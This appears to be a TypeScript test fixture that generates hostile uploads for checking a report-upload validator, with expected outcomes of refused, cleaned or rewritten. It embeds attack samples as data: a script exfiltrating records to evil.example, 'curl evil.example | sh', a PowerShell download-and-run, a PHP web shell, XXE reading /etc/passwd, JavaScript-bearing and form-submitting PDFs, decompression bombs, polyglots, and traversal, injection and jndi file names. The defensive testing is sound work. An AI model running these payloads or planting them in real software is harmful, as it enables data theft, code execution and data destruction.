import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { pdfStream, rawPdf as pdf } from './report-files.ts';

/**
 * A file that somebody might send in place of a report. `clean`: it is taken, but what comes back is a picture without
 * `payload`; `rewritten`: a PDF that does and hides nothing; `plain`: it is a harmless PDF under a name or with a text that is not.
 */
export interface Hostile {
  name: string;
  data: Buffer;
  fileName?: string;
  type?: string;
  outcome: 'refused' | 'clean' | 'rewritten' | 'plain';
  payload?: string;
}

const html = '<!doctype html><html><body><script>alert(document.domain)</script></body></html>';
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const js = 'fetch("/api/records/").then((r) => r.text()).then((t) => navigator.sendBeacon("//evil.example", t));\n';
const php = '<?php system($_GET["c"]); ?>';
// An empty archive: the end of a central directory and nothing else.
const zip = Buffer.concat([Buffer.from('PK\u0005\u0006', 'latin1'), Buffer.alloc(18)]);
const local = Buffer.concat([Buffer.from('PK\u0003\u0004\u0014\u0000', 'latin1'), Buffer.alloc(40, 1), zip]);
const gif = Buffer.from('GIF89a\u0001\u0000\u0001\u0000\u0080\u0000\u0000', 'latin1');
const head = (text: string, length = 600) => Buffer.concat([Buffer.from(text, 'latin1'), Buffer.alloc(length)]);

/** Files of other kinds, each called `report.pdf` and declared a PDF. */
const strangers: Record<string, string | Buffer> = {
  'HTML': html,
  'HTML behind a byte order mark': `\uFEFF${html}`,
  'HTML behind blanks': `${' '.repeat(2000)}${html}`,
  'HTML in UTF-16': Buffer.from(`\uFEFF${html}`, 'utf16le'),
  'XHTML': `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`,
  'SVG': svg,
  'SVG behind an XML declaration': `<?xml version="1.0"?>${svg}`,
  'SVGZ': gzipSync(svg),
  'XML with an external entity': '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  'XSLT': '<?xml version="1.0"?><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>',
  'JavaScript': js,
  'PHP': php,
  'a shell script': '#!/bin/sh\ncurl evil.example | sh\n',
  'Python': '#!/usr/bin/env python3\nimport os\nos.system("id")\n',
  'PowerShell': 'Invoke-WebRequest evil.example/x.exe -OutFile x.exe; Start-Process x.exe',
  'a batch file': '@echo off\r\nformat c:\r\n',
  'VBScript': 'CreateObject("WScript.Shell").Run "calc"',
  'an HTML application': '<hta:application id="x"/><script language="vbscript">x</script>',
  'MHTML': 'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n' + html,
  'an email': 'From: a@example.org\r\nSubject: x\r\nContent-Type: text/html\r\n\r\n' + html,
  'a shortcut': '[InternetShortcut]\r\nURL=file://evil.example/share\r\n',
  'a Windows link': head('L\u0000\u0000\u0000\u0001\u0014\u0002\u0000\u0000\u0000\u0000\u0000\u00c0\u0000\u0000\u0000\u0000\u0000\u0000F'),
  'ZIP': local,
  'a gzip': gzipSync('x'),
  'a 7z': head('7z\u00bc\u00af\u0027\u001c'),
  'a RAR': head('Rar!\u001a\u0007\u0001\u0000'),
  'a tar': Buffer.concat([head('x', 256), Buffer.from('ustar\u000000'), Buffer.alloc(500)]),
  'a Windows program': head('MZ\u0090\u0000\u0003'),
  'a Linux program': head('\u007fELF\u0002\u0001\u0001'),
  'a macOS program': head('\u00cf\u00fa\u00ed\u00fe'),
  'WebAssembly': head('\u0000asm\u0001\u0000\u0000\u0000'),
  'a Java class': head('\u00ca\u00fe\u00ba\u00be\u0000\u0000\u00004'),
  'an old Office document': head('\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1'),
  'RTF': '{\\rtf1\\object\\objdata 0105}',
  'PostScript': '%!PS-Adobe-3.0\n(r) file\n',
  'GIF': gif,
  'GIF that is JavaScript': Buffer.concat([Buffer.from('GIF89a/*'), gif, Buffer.from('*/=1;alert(1)')]),
  'BMP that is JavaScript': head('BM/*\u0000\u0000*/=1;alert(1)'),
  'WebP': head('RIFF\u0000\u0001\u0000\u0000WEBPVP8 '),
  'TIFF': head('II*\u0000\u0008\u0000\u0000\u0000'),
  'ICO': head('\u0000\u0000\u0001\u0000\u0001\u0000'),
  'PSD': head('8BPS\u0000\u0001'),
  'AVIF': head('\u0000\u0000\u0000\u001cftypavif'),
  'MP4': head('\u0000\u0000\u0000\u0018ftypmp42'),
  'Flash': head('CWS\u0009'),
  'SQLite': head('SQLite format 3\u0000'),
  'DICOM': Buffer.concat([Buffer.alloc(128), head('DICM')]),
  'plain text': 'Haemoglobin 13.2 g/dL\n',
  'CSV with a formula': '=cmd|"/c calc"!A1,2\n',
  'JSON': '{"__proto__":{"admin":true}}',
  'one byte': '%',
  'blanks': ' '.repeat(4096),
  'zeros': Buffer.alloc(100_000),
}; // prettier-ignore

const action = (kind: string) => ({ catalog: `/OpenAction << /S /${kind} >>` });
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const objectStream = (content: string | Buffer, dictionary: string) =>
  pdf({ objects: [pdfStream(content, dictionary)] });
const hidden = `4 0 ${script}`;

/** A script in packed objects whose dictionary is followed by a comment, with a table that is a stream: pdf.js and qpdf read it. */
function behindComment() {
  const inner = deflateSync(`5 0 ${script}`);
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
  const offsets: number[] = [];
  const add = (id: number, object: string | Buffer) => {
    offsets[id] = length();
    parts.push(Buffer.from(`${id} 0 obj\n`), Buffer.from(object as string), Buffer.from('\nendobj\n'));
  };
  add(1, '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>');
  add(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  add(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>');
  add(
    4,
    Buffer.concat([
      Buffer.from(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${inner.length} >> %x\nstream\n`),
      inner,
      Buffer.from('\nendstream'),
    ]),
  );
  const table = length();
  const row = (type: number, at: number, third: number) => Buffer.from([type, at >> 8, at & 255, third]);
  const rows = [
    row(0, 0, 255),
    ...[1, 2, 3, 4].map((id) => row(1, offsets[id] ?? 0, 0)),
    row(2, 4, 0),
    row(1, table, 0),
  ];
  add(6, pdfStream(Buffer.concat(rows), '/Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R'));
  parts.push(Buffer.from(`startxref\n${table}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** PDFs that do something, hide something, are locked, or are something else besides. */
const pdfs: Record<string, Buffer> = {
  'JavaScript when opened': pdf({ catalog: `/OpenAction ${script}` }),
  'JavaScript by another object': pdf({ catalog: '/OpenAction 4 0 R', objects: [script] }),
  'JavaScript by name': pdf({ catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }),
  'JavaScript, its name escaped': pdf({ catalog: '/OpenAction << /S /J#61vaScr#69pt /J#53 (1) >>' }),
  'JavaScript with a comment between': pdf({ catalog: '/OpenAction << /S %x\n/JavaScript%y\n /JS (1) >>' }),
  'JS without its kind': pdf({ catalog: '/OpenAction << /S /Named /JS (1) >>' }),
  'an action on a page': pdf({ catalog: '/AA << /WC 4 0 R >>', objects: ['<< /S /Named /N /Print >>'] }),
  'a program to launch': pdf(action('Launch /F (cmd.exe)')),
  'a form that sends': pdf(action('SubmitForm /F (http://evil.example)')),
  'a form that fetches': pdf(action('ImportData /F (x)')),
  'a way to another file': pdf(action('GoToR /F (\\\\\\\\evil.example\\\\x)')),
  'a way to a file inside': pdf(action('GoToE /T << >>')),
  'a rendition': pdf(action('Rendition /OP 0')),
  'rich media': pdf({ objects: ['<< /Type /Annot /Subtype /RichMedia >>'] }),
  'XFA': pdf({ catalog: '/AcroForm << /XFA 4 0 R >>', objects: [pdfStream('<xdp:xdp/>')] }),
  'a file inside': pdf({ objects: [pdfStream('MZ', '/Type /EmbeddedFile')] }),
  'files by name': pdf({ catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' }),
  'JavaScript in packed objects': objectStream(deflateSync(hidden), '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'),
  'JavaScript in packed objects behind a comment': behindComment(),
  'JavaScript in packed objects, filter in a list': objectStream(deflateSync(hidden), '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode]'),
  'JavaScript in packed objects without a type': objectStream(deflateSync(hidden), '/N 1 /First 4 /Filter /Fl'),
  'JavaScript in unpacked objects': objectStream(hidden, '/Type /ObjStm /N 1 /First 4'),
  'JS in packed objects': objectStream(deflateSync('4 0 << /JS (1) >>'), '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'),
  'objects packed another way': objectStream('3420', '/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode'),
  'objects packed twice': objectStream(deflateSync(deflateSync(hidden)), '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]'),
  'objects whose packing stands elsewhere': objectStream(deflateSync(hidden), '/Type /ObjStm /N 1 /First 4 /Filter 9 0 R'),
  'objects that do not unpack': objectStream('no deflate', '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'),
  'objects that unpack to 100 MB': objectStream(deflateSync(Buffer.alloc(100_000_000)), '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'),
  'JavaScript inside a stream': pdf({ objects: [pdfStream(`9 0 obj ${script} endobj`)] }),
  'JavaScript, escaped, inside a stream': pdf({ objects: [pdfStream('9 0 obj << /S /JavaScrip#74 >> endobj')] }),
  'JavaScript inside a string': pdf({ objects: [`<< /Title (9 0 obj ${script} endobj) >>`] }),
  'JavaScript inside a comment': pdf({ comment: `% 9 0 obj ${script} endobj\n` }),
  'JavaScript behind the word stream in a comment': pdf({ comment: '% >> stream\n', catalog: `/OpenAction ${script}` }),
  'JavaScript behind the word stream in a string': pdf({ objects: ['<< /A (>> stream\n) >>', script] }),
  'a password': pdf({ trailer: '/Encrypt 4 0 R', objects: ['<< /Filter /Standard /V 4 >>'] }),
  'a password, its name escaped': pdf({ trailer: '/#45ncrypt << /Filter /Standard >>' }),
  'HTML before it': pdf({ before: html }),
  'a GIF before it': pdf({ before: gif }),
  'a byte order mark before it': pdf({ before: '\uFEFF' }),
  'a line before it': pdf({ before: '\n' }),
  'PHP before it': pdf({ before: php }),
  'HTML in a comment': pdf({ comment: `%${html}\n` }),
  'SVG in a comment': pdf({ comment: `%${svg}\n` }),
  'PHP in a comment': pdf({ comment: `%${php}\n` }),
  'HTML between objects': pdf({ comment: `${html}\n` }),
  'a script in a stream': pdf({ objects: [pdfStream(html)] }),
  'HTML after it': pdf({ after: html }),
  'JavaScript after it': pdf({ after: js }),
  'PHP after it': pdf({ after: php }),
  'ZIP after it': pdf({ after: local }),
  'ZIP inside its last kilobytes': pdf({ objects: [pdfStream(local)] }),
  'a program after it': pdf({ after: head('MZ') }),
  'no end': pdf().subarray(0, -6),
  'no end but its word': Buffer.concat([pdf().subarray(0, -30), Buffer.from('\n%%EOF\n')]),
  'a table that is not there': Buffer.from(pdf().toString('latin1').replace(/startxref\n\d+/, 'startxref\n99999'), 'latin1'),
  'a table that is none': Buffer.from(pdf().toString('latin1').replace(/startxref\n\d+/, 'startxref\n12'), 'latin1'),
  'no root': Buffer.from(pdf().toString('latin1').replace('/Root', '/Rout'), 'latin1'),
  'a header alone': Buffer.from('%PDF-1.7\n'),
  'a header and zeros': head('%PDF-1.7\n', 50_000),
  'an unknown version': Buffer.from(pdf().toString('latin1').replace('%PDF-1.7', '%PDF-9.9'), 'latin1'),
}; // prettier-ignore

const names = [
  'report.pdf.exe', 'report.exe.pdf', 'report.php', '.htaccess', 'CON', 'nul.pdf', 'report.pdf\u0000.html',
  'report\u202Efdp.exe', '../../../../etc/passwd', '..%2f..%2fetc%2fpasswd', '..\\\\..\\\\windows\\\\win.ini', 'C:\\\\x.pdf',
  '/etc/cron.d/x', `${'a'.repeat(300)}.pdf`, 'a;b.pdf', "'; drop table records; --.pdf", '<img src=x onerror=alert(1)>.pdf',
  '${jndi:ldap://evil.example}.pdf', '$(id).pdf', '%0d%0aSet-Cookie: a=b.pdf', 'रिपोर्ट.pdf', '😀.pdf', ' ', '-rf',
]; // prettier-ignore

function chunk(type: string, data: Buffer) {
  const body = Buffer.concat([Buffer.from(type), data]);
  const framed = Buffer.alloc(body.length + 8);
  framed.writeUInt32BE(data.length, 0);
  body.copy(framed, 4);
  framed.writeUInt32BE(crc32(body), body.length + 4);
  return framed;
}

function crc32(data: Buffer) {
  let crc = ~0;
  for (const byte of data) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return ~crc >>> 0;
}

/** A PNG that says it is so large, and holds as many bytes of grey as given. */
function pngBomb(width: number, height: number, data: Buffer) {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8;
  const signature = Buffer.from('\u0089PNG\r\n\u001a\n', 'latin1');
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(data)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Those that nobody can read safely, or that are something else besides. */
const unreadable = /^(a password|.+ before it$|no end but|a table that|no root|a header)/;

async function pictures(): Promise<Hostile[]> {
  const plain = () => sharp({ create: { width: 64, height: 48, channels: 3, background: '#3c7a6e' } });
  const [png, jpeg] = [await plain().png().toBuffer(), await plain().jpeg().toBuffer()];
  const told = await plain()
    .jpeg()
    .withExif({ IFD0: { Copyright: html, ImageDescription: php }, IFD3: { GPSLatitude: '12/1 58/1 0/1', GPSLatitudeRef: 'N' } })
    .toBuffer();
  const comment = Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe, 0, php.length + 2]), Buffer.from(php), jpeg.subarray(2)]);
  const text = Buffer.concat([png.subarray(0, 33), chunk('tEXt', Buffer.from(`Comment\0${html}`)), png.subarray(33)]);
  const refused = { outcome: 'refused' } as const;
  const clean = (payload: string) => ({ outcome: 'clean', payload }) as const;
  return [
    { name: 'a PNG that says 50,000 by 50,000', data: pngBomb(50_000, 50_000, Buffer.alloc(1000)), ...refused },
    { name: 'a PNG of 9,000 by 9,000 grey', data: pngBomb(9000, 9000, Buffer.alloc(9001 * 9000)), ...refused },
    { name: 'a PNG that says 0 by 0', data: pngBomb(0, 0, Buffer.alloc(0)), ...refused },
    { name: 'a PNG of which half is missing', data: png.subarray(0, png.length / 2), ...refused },
    { name: 'a JPEG of which half is missing', data: jpeg.subarray(0, jpeg.length / 2), ...refused },
    { name: 'the first bytes of a PNG, then HTML', data: Buffer.concat([png.subarray(0, 8), Buffer.from(html)]), ...refused },
    { name: 'the first bytes of a JPEG, then PHP', data: Buffer.concat([jpeg.subarray(0, 3), Buffer.from(php)]), ...refused },
    { name: 'a PNG with a damaged header', data: Buffer.concat([png.subarray(0, 20), Buffer.alloc(20, 255), png.subarray(40)]), ...refused },
    { name: 'a JPEG with HTML in its EXIF', data: told, ...clean('<script>') },
    { name: 'a JPEG with PHP in its EXIF', data: told, ...clean('<?php') },
    { name: 'a JPEG that tells where it was taken', data: told, ...clean('Exif') },
    { name: 'a JPEG with PHP in a comment', data: comment, ...clean('<?php') },
    { name: 'a JPEG with ZIP behind it', data: Buffer.concat([jpeg, local]), ...clean('PK\u0005\u0006') },
    { name: 'a JPEG with HTML behind it', data: Buffer.concat([jpeg, Buffer.from(html)]), ...clean('<script>') },
    { name: 'a PNG with HTML in a text', data: text, ...clean('<script>') },
    { name: 'a PNG with JavaScript behind it', data: Buffer.concat([png, Buffer.from(js)]), ...clean('sendBeacon') },
    { name: 'a PNG with a PDF behind it', data: Buffer.concat([png, pdf()]), ...clean('%PDF') },
  ];
} // prettier-ignore

/** Every hostile file. */
export async function hostileReports(): Promise<Hostile[]> {
  const whole = pdf({ objects: [pdfStream('x'.repeat(3000))] });
  return [
    ...Object.entries(strangers).map(([name, data]) => ({ name, data: Buffer.from(data as string), outcome: 'refused' as const })),
    ...Object.entries(pdfs).map(([name, data]) => ({
      name: `a PDF with ${name}`,
      data,
      outcome: unreadable.test(name) ? ('refused' as const) : ('rewritten' as const),
    })),
    ...[1, 9, 15, 100, 1000, 2000, 3000, whole.length - 40].map((bytes) => ({
      name: `a PDF cut off after ${bytes} bytes`,
      data: whole.subarray(0, bytes),
      outcome: 'refused' as const,
    })),
    ...(await pictures()),
    ...names.map((fileName) => ({ name: `a PDF called ${JSON.stringify(fileName)}`, data: pdf(), fileName, outcome: 'plain' as const })),
    ...['text/html', 'image/svg+xml', 'application/x-php', 'text/javascript', 'application/json'].map((type) => ({
      name: `a PDF that is declared ${type}`,
      data: pdf(),
      type,
      outcome: 'plain' as const,
    })),
  ];
} // prettier-ignore
